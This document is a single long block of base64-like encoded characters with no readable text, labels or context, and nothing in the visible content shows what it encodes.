rn+712juQzRfH6eISxQqgbpJA/SFQ15u2hcE21DN+w4i7XznWsTTdoh4nekyS9aIexFw2RGXc7Es6OoR7yb/n59KaE8LvObO4FHmveWC0oCTNbMQS5INKsGfYytrzCnNVQfviQzX2Z260igTnjGaHcWl/Ga0XwVpLapsWVwoCDqHgiGzyoQFuoBI7LVxQLsaP1f8mWzq6QnbV5velkMsB73jStj3dZ6E1BFjBwPsSSrs7mXr5lbwa+9mzBjG8IW6zS1/lslPm3fTDHnjkTiXVwa7BlL5Zrr7nghq0eJY926oVeReUMfHQzWzxpPk9xE/dqxavfayhMS22pxDantx/Va7liowfKgRTElZd8hzsA9wU6we2aNC1DfwUP8cY7gBNsX7SH50NQo+YUaVI/suLzKAdmzwCFOt/G2fjI4n756/LmWdRUNvtpMYi2rylhKCdIBXSHaqiE+zLdLU4RS0Aw59DWBOfYbihzPHtgQTzeakD86S49U/vYev5oA4477FWMA8gKj5MVKJjH9Ra/nSJ2fUNI25A/+hZsl05BLTOK2L0xLp1ONXPq0iS2iNzjlKigvI95miyuajAA7WdtsD/xgdYAHbmFTi77P7Cim3NXJqrFYpGpXr0gljnkQuqqQayfxYOmx2FUpJqBk9YEINWqi6LMxogbFx4UOUIEG+bOl0xLeEAfCU556JdAl9Txpjyu9DyDztha5YRtDFrQZLMCtuE99H3tg7MT+3xI5qeRu1ZakcC9E6zXXWNtgLhnjmueE2H+ycVlNl42ih2e9M22zsjmu4qgCYeeK1OqyDx/8tOZg7l2gZcTCQK9yYta/sl6hF1sXwmR6LNyUTbs4dP6Z3BuOLFTZbs+43HwxRsO/ctE1OSZyetCp2ayjha9WoNLR81l+/SxAVjp8B/Uh46ZOVuhJ2V0YLSDT9bLxYELp/lIENOfO1x+GElHzhTLNgHKRsfa5eHQz4CpgoU2bph68R0EV8CycSziKG19zsAYmPGhhebU0/b8RJBubCHJ2w1HlOAXyVsFjN9UuWxvG2aMEB1TVazUPWCyTn27THTqZZzKrx5g2QFpy7g6qknu9zKG8H/xU20+VJe8LVN+mrHE9IEW0VnyX3lVaQy0DRlURRC4W0xre4xUcx9sbYSPYrwBbFindohJGvU6fXWx94InD7qwujprpM++5TvdsM53PxmpUuZbvzuM2xl29p8cus7BfrZ9aDYrm4wE3tlI7hQKuqk3cSgiNN3gvirr1JH2K+R5jZPrSU1A2pJdX1LrlnPSMmz1xf7Ke4WtuLhrKm2bJ8yfIQEv4yY/p3W2Kh3jjJfKcONku51SQfNDtkPbbFGadrM2rxp+/u49gqj+S9b0koAIQpdtdkVamLXBEeP5+902bRh9Hmom+z/u4BR2tPKGve6ILkS8eBwqmzQOcdkIIDyuOfVr7aArwlSUSr4N0Dk4Vrcq8VpM+vQtGZk3SjrRTCbRU7eTLiV8u+TGyCF6GlY0XKSA48bQXu7jH+kWuImXUEufG+QGldD8QqthtMAzIyOhWJae6iK1RVLNW+UQKCA/Svg825lsn+9eruTMmwGQ6ZsE5s4hgKsbs7kDTp9zzWS50Ce67ykHY40ViOlm8KAVu+sPOdJez2VWF/XoFtd1MuoegYxuhePFcGWfm75f+WgMz6L112JhVvtfiPCnZClPO/Z0OyrkVH37NPvmGAByQp97m+9SvRNq8bNbjaWwtZrjrZ0ZwHWY6sAUIOzF6nA225nsDB/qj82/BjKPdxSVI4o7TYzRI93PJ6M0cVLXZ81dNLJ0ozxLi9TBNJLYb4k9wGUedd9RqIPl/sERtIIVuVE6AoGQ0H3HrHC+bXOAJ4tz3dekPJDZxlK9aezwRhZDdZuv7wA3WpuMQmt1rnm+BSUff6GBRzfbpSofmZQnbVQDYqlg3O6rT58PvUCjR/lM1vO9JGCIunKdUwJSRXE+Q20398iytxZyrc/D/zObTOHC4cuJnEw3bWWNFnKFv9HM2EYY+WWqZ/3l7PaCe9PBQ9jndSpFtTcsZLaYH+kbS0wP81Hw+rvQ3BdN4uQboFgI6n/zb2glhgQQBCNbcLWKWle7QfzHDay+OkjJJcSvDDWHe6vE8xnBrpGm2WCWfJRGTKinnvNopLQdkAjQZTWysV9zOM2EOgLTS24aH0j2W68QbFspe1RLcWXe0VbIeSZlH6K07BVkC98iotgkxsv2a9qh8W28NC5Wp/h7yGNr/kHoTa5bim8qs+xIWmNrCSMY6QrWcBZxAb1rEULKpqWl68gkjYapVWiT5gKQitCEDdiLEm2v+UsDJSFOJUh/Aylf38NQ+syweFSodpTvQLQjrzu/yh19EMCBuJ9dJLFvSG8c1DH7c9l3cd2REersKLfgJQeW81PaDBvKBx/qLNsYbtQU1QE+5ti5UhWIOHrcQih1Q1kZvfUQkXlUsIyqmLkhQOfNAU+u2qd6+0VXdERUIPA2qRxxJvILk3/Raa3ivAskk/KJ/ynQd/hvqZ1e5EfHzkXQpvhcSWQ7l3nX1PxCpG/0Hdn50iKHqtgDRF3zK/45vbCXxXxsnm8gGl3I1Bj68XA5+pWiFMg/zkjYXeiq1hLqiMh326ng3G/rZgL/raewdGQjoBkjIF/tVTpk2mq6bk3axEZd+Kjw7QCjEX4WHNv3uvPbATL4TpUUR4FaSHJJsMWdAFHL2xi6VEJeUccUCUolo3Z1Jw8I704xb5NAuSgy0RtLA4OTXH0PDK55cM9tc2zn+9yC5lSQkI91ObwZ/Wqk+PV1c4Hq9iThyxmcuAk3BCrEGgaftEkvJxpQ+tK/pd2wTlWeSrCzBZrp1DCtU/wuLglrzZ/9YvQBw4HhOlZbgFIE1BMT0VyJ94+8zkCpFIt+wC+lw5f3BjznugA+CiuoICBbKNrof+fldHUxVtPFptphBw4Efm2N+QS1iwk2kgwMNByXACV95MCkH9DNgSPs7lmiz7aZtr/gu+mgVLjWYG+HYCOS8B15rkPs5gqKUnu7Zpi3loR9nifbrG3e2ylqu56yF5MmubNQpKb4p3GL5VITdDp/i/Ooz7QJr8vcDZjCR9RHcXDsOSofFGuSmuf2ozIJBpB6G8vfusO71hIO7fPDw5k6Vzs2LJ8GsPNV5V1zg8BRmUvyPE+PnRan8+PfWtXFBYj9hxeU/JKEiiyPEx1Y+oJ4VSHTyVz3FwYnG5F+Mds1zpkfv8lgXIOZc675LTh0234mT/UM3ZtYIG9y4FhIs3phJZF0soP2f+yOq6R/04L0ATjz3l6C6K8C9zGIdcbw9Dwhu4QUwWLA7UDvmcbmVe5dXluPcUy0KLQtdhSzdeo6GcHpp5bBaXm8k1s/xtNQpxeLlyTElUgpJM6WQq9vtltfUTMGn9y9MM90dZRK+c1vJt6qR+7WR1GbMwSoBOsGYWZ6RkmHkQZe0g4oj04Ew3qo1Rw2VP9rv6hyvnxypVFuMfiZYhgMlSxFZyREWvkBRrrVPQzWhy64I3OyLYoSbJMWRdxPa3TQSUdlBOKpWhifH2EewPpfmZ22ZdA/rq7uNJxGGqoAb+XKXP/vvyOj2G3rhz78eR3QovrSugi3hovrhdZacD/36Zq6eICz2l4BC8JPuQ5tsYufqZM+MCTKGqxy8rGhwtXZhP0D6YzcvWuVeiU7FUow5eH5Sfp5RiAVGTSest4M5mv9MA3/vbgSWY9ad7RInCfI1txTMweF+lkgA/c5Rh++g6qetv1z7PoWNehgyrhhdlj8PPDzVbs5uZekYeviXO60r+i6E7BTSx/vLT7w+Ho2fapbEj0bm0zziudPGxhlC1C64gb7rJamFBXX1iUl9kP0mNuLjRB2Sgnkx4Ui07mVC+s35ON3BTQ8px4YicKb/eUywH9dAUkOhtZ5O/24jTKL1BggfdwRlud5yKiH9/GSqO1+FLm+mJQADPJxvT6OlMIMM/Dj9U6gDX/Vnp+TrW1tU9jajs9JuXzayyk4f4TpA/ceBzXnqVHcMfDzJNZWitKCa/LYjT9uWiLLH4opxTGGH5VvCV+B44slOZNFhIxC4mg1PQkfFvmDGn+82O/K7M3l/YHQcDClLf9dq58lyssjxLubvsKA4ezcTd1WqhMNq6aVf1XXvYW0/ptOotNiGJSL7QKCVTcwjE8yUrzTFgIMTVeKQuiNgXhwbcGCPhH7cuJ/M3oCQCWnHVDZKZrx4Fw8o7pluaZS9zfEbHLSVhZyxj4wI2a/RjqPfb2bCFB6uM9PpUSm93uvjpfu2HOG0kJ0G6/XOj3DDVf4B8fTNeWyCX+q12hDFUo8bS8Ho+hmtt8DdoEXfFc6FGhF47kuPKKeXPH2oiiz6bsXB7p5HFb6oawNFDuqsRUOcPttQYF2MS9JaPeXkm34PKlxsxIaImo7QJrXWpW5Vp0j2NLjWGwbMsH7ND5+zinqPdoe/9Yu9gndZ/WW3WnSJ9QKNb7KBdYEjaqUEpk2ByE2jIYksO8VQTuUQAFmeCWZKDJDgmRQiNqlIez07za2Bop0wn1s/dnGaiw47DUBdyFU7BUYJdUZEGxELCtC15nVpacsaMqCrb4gTi+aY86Hop/cg/cPw3AK/d9Y5MflEc6WLvaOwXe0fxP5rkm5Eib/+ouZJOMtXYsDlydvq0l10wDM16kcYNoEa2MOmkfZTQ9oI6Xn/fCGTFPaTmCSImdtrTnol64O4oTTTTkTXAWK/RGzXmNXhcn4K0Z6cjrhYYF20S+WDYeHfU/wQJmYGgEIB0YUq8xivrqSxOAPzQ+tQnpbGiI7eLGSlR1lOkaqLhuDawwSD62JMjaDCWO4igsslPZdJjezAqC40ZRqnRa6vjd6o30BbjqzKuEUt9A6YBcHq9wLoewSHndmFz2nW/mJ8JOUNOuY6d3RiTlZOomOvRctmmbmj3mLGBIcxPykV/NzGw/5zynapl4c+YHWNw2Us+tFyXiMxT4m4bznUFLrITVESna8wLqGw7fwrXq97JooINmrpbVo2gkI3hmONEQC8Q8+MHS+8PO9869qkokWpz5w6SF+qlitDwsf7CbEAJS+5ZYxNnixb/rtqyM5kV8FSwEWdoKF6ZIjCJauM/d5PkgIn7EU86mzBaDwY7nLoNRy+9/YebNvEo+q7rfuZO5Xae0kUP1MsOL5hKl3p+M3qVpDlKVQGWDo/E50xLnV/iIhrviYWNjfwylbB5KAM1XJ7RFJoC392+mRQd3GdG1HLyLo8Tp6sT0y/l5VP9l6EvG2fEMrvV96TaHcJB095dYF+OqK4kiy0wN4/pT0AdU24HBwdPRgOk4khl7RVLJ7g5EnEwkApHIbilwmxhdxPPt77zZiUPpYps2DNoiKFGc2apoETtfmCX/r16z9Qmixxqo3h/C6JKFuWMu2nQb5feyQaCAW7uvKq9wwFT/QqdVcNFlzTGjPQJ3x3h3n8/HhSioBc8ZzLOWoLoOuU78UC3GvmKIXGH0HY90JtWXTFQFgJcMxVTtwZg8LQxcFHqs0kbpi7SCJwAiLI7Qw/VL3zgxcgeigiCl5zFf+KUhJGwjsGBGdSpB01rqq9IyiwTXDD86NLX9IghqpulUB7jhtkk6mVr/iquMTHX4LD7v2WswWHf04N2JmIVwfte/jTYWOzZ2DM7Z7/Eg66qjXmOZXLCvPIUCzKEFOTHHrAh1LMiUGINaDlFqItQWK95vgk7cr96VMfFbuVHHKmAzB+nP0S34I40zftTJHY1zUvyI5qghLPNtgugNbm6ETbX5St+8TgfyhJlfl8kQKbuW+k2c2Vg4UTbOvwa+RfBhDQS++8I/j7iQFR7HBhUaWJlk7GZbrFCr96s++56iSkc+IQ+5FynU9v4wuAYKNXxmNDE1n39xE98rtszr2ALKXU2EFdsOWMnRUc2F0FSZWCJvziWxO7o/b1Vbn50P6lU3QjjbxV/HddLFzZl13/ZDYBezfFfv9dH8POUHRLHJ5c8qIL86f96kOJuWfrcgsyzwBqqaXbzgFMPyGj+Lrys4dsKkD1qqjNfZJeS1rvR1JWhvh8RlE/VHzcOZrUtZKdfmNkEGGefXXx5UIybNmL6SN6wzZ47C1NzTQK0v5F8pfhxlOwXGo+f3Ny1xSXVRLwmRaoJBU8Mea9VAUG7QpheX2ZzgJfywip3CONaWyn+I1o++crGgmW1pcO0jplElk/WmsUKYbx0lHT0t5QPX/g5wERJ7/38BPErw6f+a4SNiciKwhmbwvvj/gw5YRGYCld3vCmpn2G2nJWwhWyV4osU/B2PCgEt1E5FVlJ1rOEPiwWE7+s4mzH8woH1kH32KSiNm4N1KB5tzYBgXj9DkWxJAXfDjr/usg/xcRQV0NvvfWyQO+IeSJohFMDuEYnMEB/wbdZDEOsNNLrMn4/dg3Aa9IHNqLE3M/u+sAwgOr3DJ5KM2KQezmW06Eu1WLGTf0a6i+L521orh6ZCIrmokinySMsmWr4F7k3nPLBGcQs5J33s6x/kOVLs3MmTksKJbMa35i3ev9mvjZ3u/5zDgbOZBtintrDSc7uug1innCRktW0pvTWlT4do1rIhMx4xtmLkNXXFhqwMOFtvdD7pr8OXow0bmqVK9Nwe3bPDoZBWicvpqfX2x7Gx/bHlrJCA/2DtPjWHXqcdA7f1o6v97Ofz+A5wrPyQfyiGDS6my0AeqWRmWN0Zu8SL06abcHDYLb2vv7rEW/zm4B3N695LiZ9rlLUkFXmK7GO4+B3E84v5ZSuzzaNd6aTmRUKrS39+ejSmBEE7IrlVbXF7eTbXaJ1eIr3DP0m/Xi96gMPPm66IP5kVCJFb6AnEm8Of1qDftbwl7CvvWsQWp6r82sgF63rfHgVSaAoXL2vGgCKN9zsvSlP9t2VX5Uc1tvvzAKrud4jdZnrFTXpBIENojrT+A7vy9ievorx81S9xl9sjN6GIcaWOHUdTwQc8es6W4B8ch/6lsfonP3WqgVjQAvVp95cRFMlq1VaSgVX1L4SvK5peT4RZVbSksbDwiX19jmiQ9ewvJtbF6zh+JUDs/ZyTndaV3Jn4/PbasPPJjD6GBgthXQncNxkKmbeNddHuaujy2uVW/FLaAw+tvydSna7ewnDjGbVveu5Vc/qqgHuR/+ezmhC0TD/6U5EIwDBV9A8ckGfqg/UnmpQl9QjOajA/joka6zGzA0Tw/djUePUU6e0xjBuTxJ0QpXgbxrOMKFKEcEAWE44VMxxf6AHB/fhm6z+AbnQ/C8taR6teOP8g91iF8t3mR0wp6glFXzQKJ34g/WxSFXdsDQH6E5hw0VyYqAaIedezoqqT0VmfQ2CxgYlEAveCOwB2rUHSP0U5AX3hycfn7egGRYFc2dOKDeqKFXpC6YXXa6NSqGUtPHqs+bcROu8ZLUkpKIaRf9RdJLremzYAOwIPOtNkHMjEgDpYS6OFlwPKgHy9Z0/VD3zrg/8IliXdRa3RfH3Qn+npR3VF+85O/iLCUqWxrggBjwdFHxvfB1C0pYQ3oXE7iaPqR80ebtbabgqG7t7f/AnTPA+D6v8G3xD0s7mWYxSieH/QuGI3bVTXakIiGOrTZEDrTOcqZ2xVNEalX2r7HqKFieltg6mMvNYUyl5fjiGdq8oXCTPOMu8viYEn1zVwxsWI9K4C7NAUzf2S20dGvhNHEACLQTTaYlePOx1J+PBc3JLsfoCXzWYj929HirXu9M8/sO2CljOyArgkRb67JvM8j1QYsxhFzCLD86RmQU7Y9jIZ/n8oRi3QDw0B7K84gERzRq8Kc524PtIAVzfCmbrEnmdbUglpvaoJOWj9XnhUq1BPLWXj+HHrQ4eRruVNUIbOlifJMC+rMtGPuzGS9v+ipOyYLhh+vGFEPBOZgxnYPY4oEdzvYRdYuqYeBCjGOvNa0Ad7tMa/QbnJEPGGrzXBQoowrP9LdVDAffUggy9Wr1slxuD+Hb3ehm/p1F19LOVxk7QEAT90EndH7u+lel9Zk4pOCFbhi49jkUoGD8nk5AMot/wwrkMq8oYUmU2XcbsbxiYVzHquBDf4LNz/VfWgPo1xFy/YTzZDHdwGETnHxtkxiwVbigMyXelM4skbaz4IaSpTTZcI1BtIGPeC3pw68v4wRYoR4v3H0L3qKe2uga4udtjA9dQTWUc3/SvMQJ3h6T6Xie6rDsehJDvfcHAKCtq0Q29Dy0ShWXOoAHo+L7qsbjfQ4Cjjr0HN49Wc294giKmlQI4vu8IhtAPjKdBhQBgA7SE1ugXgVmSXH/H7akmSdLq2ZVjmfrsLLT7d7ssVn/R6I2WoY3pD6O5AEb3iMKlZoUZL/yYAp1CLfF/fBSTUiFMGI7SKwQhHZXGcODkRic+LMfRjbv/BoMKj6oWE71vf1TwYq80zIWi+1Oqu4NPq0ztqQiifLoi9bYnUvPJbsZbLZtpwSTAIgHZ1PtFYrYOY7s8RqyHs5U5BtY/iSbJ3AVUc2+uAYcaAjq25hoxWGvpCP0iK3xzuz5BXfXgoE7U/ck4di628KnuWTlUdg7yWglyE1yuftoBZqXvyU1giZBopb+R+XvFC0pB8fKnGFkMxswxjU9fz7hBeM8olntt7V/xkep9HL8FL5jZO5N2KlVRUGHYCP5E2jKH1QZ3NwnMwkGPGuPXry08AzhSvQEzoVIYYiTE8x5oitz1oFZ0jkpjudZLPcxFStV5few3WpQPPL625AqJcGaaTCtKnlkg0iEeAha9j8VXZChY7ribSXFScdGOj5XtqnRL+V3vH3APgIvHg2ZMe5Gkpy3mH6Oy3n2L75TnozljCMMLyQL6RCp6Me1oxVPRobBnhOf3i6inuOO61tguhtVWd5v/AcRZlOx0z0jomtNFIuV7yUo8rVIVKPPOLk+2Cyj/9jxPknOByxoJoTG1VOfGI32gB91nARbX4eICpqukdIVms6Bj/VYtiivwDfE5erjK2BgHOe23qVf9jOGg4YDtvsSHo/Q6jHX7JR6zsvKwAWOvzdAMcq430EI/NIKLA0IQg5sA8/hZnwzA2PnhILEnXpgXBGWVzr9H20DPi3HFto8gJv0pPhNuA8Y/RKkHxVGO3FVJutBaXJMk4m7An29mDlYW9T7+l76Y3/PU7b0uaqy+/vGd7rFMi7IYpelLCx4NqxLYPUgKkBPlZxjvxU+NcWM0iCcqpquGCdSegPh09gPiaYeFICOzrVX7j25EGlQrw98WgZ5RAPEJP/iX2E27Z/t1k6ewsJV+VxHP6oh2t0+ZNtKt12notCvEX5DrwWMLqLDoVruoTBj8KDXnmjxVPXqOuOd2CILBbJXHEDLBXfvIbqg60PZ//FutNSKK3W0PzSbJ/avCLM5X6FBJtGYUd7Fa9SmSP/fL9xHdBTUZ+tfmZIGMv40NsCivQIMozWGOs4WKN+HFC3RZ5oBVdvpkLRq8NScBlcAyfrd6JY2RbmCjM/YElc+PVsPDJqUYi2yD7zb2sorRsjmIGkZUrolMMwSbU5zP7Pw6/ef2cyarn7KUuGn+TFJ86VjONrb5r0gNZPcqHKBoOz889I2thKbchpc5W9OO08sW5bzAF0ChoCPXM2lm8Ff108w3TzjHwT3Lkw160ekBkIhlm/pzMNcaHTrLv5BIxBAqiY1BujWt616ZVyL451aaSqmfjWiJBwtghhAJqmESvgXUw5cT69aEs7+sgKdxLmCXEI4t9AKJ2HDBp6+BsXub8gof3xlYQL9pRO0zO37fBvflA2vJD1Q55HaY9LNjs14EUHl0BNpXWQ1b7K6NMovsEi5kZ1vP+uxTcko6srbWcpkBcpXXZwzfzpG1L/0H9zoIt+fL4/MSRcdCcUCO4tnWt0F0mx2uhgUULd6a/yeUfxhmuUje3QIg38cu5HkS4Ie+s2ZUh8T1hydHvPU2ukfFSd2I62vqSd9LikRZfmCMyHc8YuNE55iiCaEgW0jpG+Mdzdiu2SU/Ur/bsQ9u2412+kRseM1vZDifl2SRasdxuWQMGkiS0ddrOllLwrXf/7IkfSVFwP0ohgz5QX+shLhek/deHNJoHeMh1GB1c1vRxdis5owmARZQ9vadlP/jk3tnQ1/XyVs2l6uFFKWRDRBKeq77e3jdsKubaBmTsHwIKnyyPw2T64wnhpkRAWqhkcGchfk0wD0bc4mPUA/exqj/LLV2uTMpvsmq+fh2TzdFlcoVsRdNb0j3ZSm19l10TH/KQawB9ukvGzkNeoMkGmoLehuUbSk7Tax4GyIju/F4Q125nzPtqieY7PXZ54IaTXpV97sVXhGjtP2s/ypLKaqsQbZ1V0j2sHs2kwPp5h7/GLudTtlXS4vncvRhPJTE+QKX3B9vqRgSKycmtjl3pvGzAuXRuEhnMU34lKdHKb8+/SrQYwuRGS9URTPN+2H8mTCBJ4255b+CQNAPrOC5e5pnZqietHWTRvDR6uS4PaDrVxCDlhik4R+Ycfske893rq92EnNW4vmP3bxGwZ+FRorjlRFj9gh3OGfP6ItnYgClzQKX1/AsRbZX8fC0x9F925yMm5ZjMBE6J5H+1To0LXx2g0RFEaPiwCvwUeJg7wk/+jjRg/zj3UXWVYBxY19J6HuVh36LVRdQWssE3KIpOaen54LgXR9Nb26tjil6iZPV6uwU8joL0oWG6TpHZO6DY1qlsyUXG2rlB6Axt9a+zsOt8J29CelsdVuapdzrU88GrTWetRZg8y3MniCFJU/NW1K5q4DKd89kMtXUGoAWFLLL5Zpb+PATYMu22B1003Qlch7ki+4SBY1WCE8QgDn/X4R/kO9aXzGpRWrJAvsuyxTFAgDtzs9Wz/afoXBabxJuKqfOe8lYBwmP6EjZ0HotARwt4gLj422W6FYl9WUM5M79FnCVw28/IR+mwhAGs2LxeLpDXeWYsPUk/fQzrMi0c8t5oJj3YuA3XZvuVy35fdXCXvhVkOWn4CfXYdhOZHXx/6LH7mJ4yst1WWKUhYFG7uFf6DiVTSl69G2S+VrIS8cAdZeoa2MSTUlbLcAEK0yTotWHeDGf2LjuoD/+yLy2lBdsZcmJ1g81ASnKSloDoM0zBfG4/+jUCKHfybIpZjTjYM6++mUTe+k7dFbftxIkRUBv5QOsGfQrrh9FdKXNI+NAKhbh46fq18gMVvVrXwEwpx7TRhznM/PpLyDHr6hz4gKzhg8eIt9c9fVU3stKqT8raP5zu/+rH4i99xK3VuKchR+9RNHuYf2tFeeXjxspuhSoNI2fAcxDGH2Zeg+7lwymng5gJGykTnT1+MsSK17vMxA7wnyu/XdAxmBqpYA+0566a0+AbaIml5nEHuPoI49VP7GlM+SGKgOx5M5ynRi0CyTlf2QI/eMD4GSdFw7pk/homUeUho7j5ZxWKpbCu24si0YCFIxW+tT6EOr8+euxmQlH3obEvMzYMam4Eob+9YCvMJTYWKUAnwat/drxn9nPdl3Ph0osN+igxYQ+3Ik8YIKppqK6uBnoOC2scsde0NcT/HUaS8PzS/6hdWGQJQays/u76E5/R7NxvbMrnopxSTVl7tgrocE0/yROgPXgYc+qpC589jq9zPpqwwanOzp4T5gSepak8RLWUYK0hJYDwjwF7FyIcxuv3UWNpMk60Wb0JVJb9OAjhq99pTxQI9QkwGLgwCCXeWZFu3VKza1l9KV8ZZk05g0T2LeG0LzSPWd8LUcJ8/ofe0jXdoMMdXzCiu2BDZg+eLSHXrDz7aOsaPk+ZbjyUm9++AJY9Gk+/dlPjyDZcNPsYa3mXshKxLigeiBUEaaH0LrAl6Pjs6VrvvyENE8lig/ore0u+MyiGXY+4mW3TJs/erhRqiuVgIHWyb8wD6p3VfB0HG4gomakDu5HuKcyN/z5wdIM1Ukc4NQLtzJeOnCmS5KRCoJtLNMWw7Q/MpHiKD4v65i0/o5oTU1WVSjTpRDnpS59l4PAliTCC2wB95hxjdXgf/+xkXAj7el/25Tv6gebAC8yu3+86GlXHV5vsbOCblocLzOoi6MB0/bZPnx8h5TOyhfeswZhb+/iSiXgVdeT3f1pxz3OBbg/sTMDEdYMLfgEtiJXhrv1hypAjY0wWSg87le9EuFhY1Dl3j8Z60Fm/AfynVqme/9O1Lnu6mOJO+cQ1PW9P695/BSFdf9EG0zW0Ilxz/caFv5Tfxdc+Tp1MneZbrYGYPqXyfk+eF5TFioHsjtnBd1xuC03gdTq+odqtTduHAcjcB44oTIyasUB1h8MEdesgX0A/G8qHDA7ZJx6HBJh2mSA2SY4SSP+uILZVsLMjX/NDAAH0470jIo1j+l76txjltYrZhoXUD619w6kUg47Z0+vMCgPtowJ9eNrKBwDJ6lCmn5Rg6UPLp4O5fzuomfGnzUXs8469AzTlDaoO3gViR3W2g4ORlfXdCwTH9nRd3A4Wi/OMTk3qsaZ9ZwIIK0X+SR6lw3eCWqmlzV/Q2eT5IQi92YgcI0gjL4Xy5VDI7m/g+WfkDSLH67iNynHGBB3JkfDyeuCDKQiv6VGQ9hy8T4eEbhoLxaYNv+Nk7Rno/Is6quyvTe/OC9hZynaoiDioUspsbW90TL7fgChgHLzrzVF93JK6H0w7kWYae6Df9m2fVoPThThLKtqNcYm8M3pZhyw55YGD7BKAIYgFTbxjnbOtj6U/+OeyWD3iEeN/W+HNJKGyfaby9VkOfo1Ax8K3dPVWY/ajpAamrjjiQateK0jDxyL54ayeiVLabnxR+73higo8ZmMqXGuRnxaVsftAk7269OCVPrizQgfl00Wb83zu0vfaDA+HAWOd5K0jAcOGfEEdyXZPX0kffqh5gRuilLq0mO7J6xBDxEV6+5XfTl59PoWQvZ+pjQiZK/VA7x9DaQkDXm8ecmDKpfhFm2+uU1Y43PMuHWy5Umupt7GV9xt3uFpNoVd9I84Tzw4usdMC2A6d3Qe1TFWSLrEOJK+n3aAtcPYsUyPXI3Wo5EKu9RnLGa2hwY8fmG4IifZAaZltoAlciEBfKeY9MGVQ+Xqy5cfhTjp4EJDpfnX+E3VREHNh+zlDE3l2piSUFMfrg25Vp5YF+/OcVbHQPaDdeUZUPXUf8VjMQF+o3FMSfVaDmKFSFGxR5mpBr1GfiKJTaoMbbc1VZguujEXDyUpr/7PbkjIkbYzYM5ij6nNfWGbb5G09Kf+r26Y/5KmT5r+XSoLKsfgDA7ayY+VD+L9UQaxzOzja9wtTfE8dt7fDckD3oMhcf2wwnw6/7IDEEvLyTNhZm9hrV21vdCZZdLRIQk8bb2jKxet2M2Tae4d6vz9Y3PY5XdH2CrFgYPEYlZtgBBVbx/tTH14PfKzmmZeyGhD0xcciBhma4rUQY4MO3i9sN+U0PSMAprsqlTva504c+wX5zqFDskKGciycAybrZq0hy1Xb5VixDRjEUj102ClZX18KUfIJ9uT6bW24Ky0tcFT6VSpxtsGy5/XwMBWA2ovQUk3mvn/tZJjU8KOoY6gIk77R3r6JgqxvIUaszNxnaPL7JFcE3PJY3lhp7h7G5WPEqtHRxlQbMTwYC7KvC9edwL5Kw3SKA5aqYV67GYGcXE1r0sYBW1RrECWZ/marn5PJ/OCP71e3nZ+eJJ+rLWcT4UukAxM7Al/XSgWLeEruLT/KtrUO8NHydJKa2BKm2ZMQn4Oiwg0nlTCJuehpMnd+CMrULkYQhR6gM2aYEO8eR5T8ZpqXlTC9YhZMUA/7z57Ux+uFPOgWYAVRQ4OpuQU3TKD5s0wkOFuVs2nxzcy4R5UjP91Br4d3yWqzprcx9uJVLNa7CTb/CBQCoANVKdh1qKTkwf0y2nLFIKSuRrNBXUOOByBnnAr1KZkGhs7qNoGqR5fMIpOENa7AE9wQp1e4eMIrtmABPcN7FzExYyBSSIsnoHkNtn7d8JH5Qcoaxpe5P/G0GShcNkJNm2bGcxPHTh7Pbghck4KZ+usAU5UdgpyW1yd+/HFj4rpjZaibEGiTW70zLDaaYM9TOINGZTnwIm6bHQpmmQByVXbQFpPL3s48D1LONPIpBeaw0n+t9F08BwVaXHVjYar1UiAdqZ10visGKSLLUeoUId5vGRMd/mC1em/tqZUCI5TN9+8XbZeA99HcEMKMG1GUT4c+O/kiw7CU+9Wiwh1k51blCFCXmLxwGB5J9gpEV8IUzm5pa4BCMoLYpd1+IGNAlo+f81CL6cTCHGhZQeYS4JAuVVvRhD1Uc0YDlHrheSwxnGUytjt2dd4wUuT70xMVqvrTDAlOdhcU5RnMABNjmqWL9DF3PD1KxcUVttk8tunoOQpYWsgQ7NgWRawTKLVkVITnhGsmPqfKIJCRseMA9WTN4hN/n53CXAPbPjm4S3NbH8bQtPWaN0tiJ+/XBhmgzcDvCRZyvmz+XSNNqX5pS9p1ClEQspyYMl3vlTEdIQYkuKHcfQs62O1+tJO1cFrLfzjGC1wOJI09Q8rdnpM9adQeGhYDsrlNg1WgCOO7NOuYfhahDSviU4pnCzKbKPgtRnArXO9U8bvz8oP9Fw14oKYtN1YJaH/dFNxehCf1DKJkLnHlnFcXHFAVBRvzwaekhY8GQkkFJB6e3xxbZD5g5DqZRZGQBmI3gGZqQe7Ob7q8sHvmSuS5h85uOe8ck2eS1BYCtlA46eKs6rbcxVjutCRecKnffWrOAV/VlS3Z4GEnSePRdn1AE4cVI2nJTLzNWxLSdG4BI4LZqDGAdr9t+Ljs3lhPwzZ6iMct5jGcFXNDx/PF7v/kC2IhSoQF1L/Gi5ILW+MozQerEnY0oySGWJ9Z3+TBVMoHtRNfdLZzP9flLTlFYRUdouNs61lMFG0dzo1ld0bYmPDgPuDlyqwfE2I3IIx9ecBC8HePT4bZu8T3pxfojBaajYnvnu/Nd+NlTylPloOKwj4755FjQmblbAAE9k7LyADdvV6eOvMtwhw7gZ3oQ0R+jE9h8PEqr3C+mJqccw3CiYkvJEtNq7WGkrv6uu1Mnkz8sk5/gnOfG3YoqOy7/7GGRcVbr+uc+zn/uGzaa1sWpRNwNhBPUY00CVtaUoxoF10MCAYva0DVArN2eahKbiLgoVHZ8eaORGqOhUb8azn+07TPkHpQ9/ewr6AAinqDYWO48er1/UhkU5tmvfadO9KHZe8LkLcnt/2i5qMJNjxDe8eqZkZxceWvwERzYo+uNa5PZ5o6GrSEP8di9WKXYBox8FfoQzaoDvY94bcb28IrXoEwG7rZ50e9rMg9K028p6Lkt6tuGrK2O4DNF+oHbbfEcuyDrcqi2WvjyKE2GazLn0hml4mBjK72MpuCD1mO8vgP0PfcTjEcm7M84rWTIeFYRHQmFoq0bNb9XEe/F99ddrFn9pW9BW+LVL96e6JfkelmncdgKgxXqOQf8y3TavYQtQZxN6AceikadgZK2l/qN023Hb83HesUB4RNyPt4wYVxJ4q7VyJCMGS9zNnT0s6UBkJgANieJrfAR+ktjpx6+tK1K986uPyaWvqIBR6hluvZRNVQsaHe9RaidK0wsktZtlA9l2FVS2DUgKMjXFLYB5A6YM5tZ7sE6SZBEA9yxdt2Xsq4EgUcYXDSLRzma088VK/72GGnuvaSWV8O8fdSnMOg4pVgfWUoYTjkJtrxWLwDs2mZ4piCyHTpuDyvf/kYOJTDeQ/cgnbmh0Faff1Mm/zVaDSvlaU98o6o4YZQk5ZZWowWhtOd3umgqYML/K/3VxVzHNe5SZ3/Lq2GAd6QEAuAsModqllgAeUCG+6uNTSSQidliSytP4bAV/n9h2FgiFaTFwrO09Px0IHHAjHTP4i1BuYVHHrQ9fjR/YTyTKuhKGShbKv4vb0LciTeQ/